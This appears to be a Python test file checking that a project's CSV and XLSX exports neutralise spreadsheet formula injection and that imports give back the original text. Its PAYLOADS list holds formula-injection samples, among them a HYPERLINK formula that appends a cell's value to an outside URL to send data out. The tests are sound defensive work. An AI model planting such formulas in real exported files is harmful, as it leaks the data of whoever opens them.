"""Exports never turn user text into a formula, and imports give the text back unchanged."""

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from sikt.files import csv_text, neutralise, read_table, unneutralise, xlsx_row

PAYLOADS = ['=HYPERLINK("https://x?d="&B2,"Öppna")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_cells_a_spreadsheet_would_run_are_prefixed():
    text = csv_text(["title", "n"], [[p, 5] for p in PAYLOADS])
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert all(cell.startswith("'") for cell in cells)
    assert "5" in text


@settings(deadline=None)  # timings vary on a shared machine; values do not
@given(st.text())
def test_neutralise_round_trips(text):
    assert unneutralise(neutralise(text)) == text
    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_export_import_round_trip_keeps_the_text():
    values = [*PAYLOADS, "'=already quoted", "vanlig text", "'"]
    data = csv_text(["title"], [[v] for v in values]).encode()
    assert [row.values["title"] for row in read_table(data, "e.csv").rows] == values


def test_xlsx_text_is_a_string_cell_never_a_formula():
    book = Workbook()
    sheet = book.active
    sheet.append(xlsx_row(sheet, [*PAYLOADS, 12.5, "bad\x01char"]))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(iter(load_workbook(buffer).active.iter_rows()))
    assert [c.data_type for c in cells] == ["s"] * len(PAYLOADS) + ["n", "s"]
    assert cells[0].value == PAYLOADS[0]
    assert cells[-1].value == "badchar"
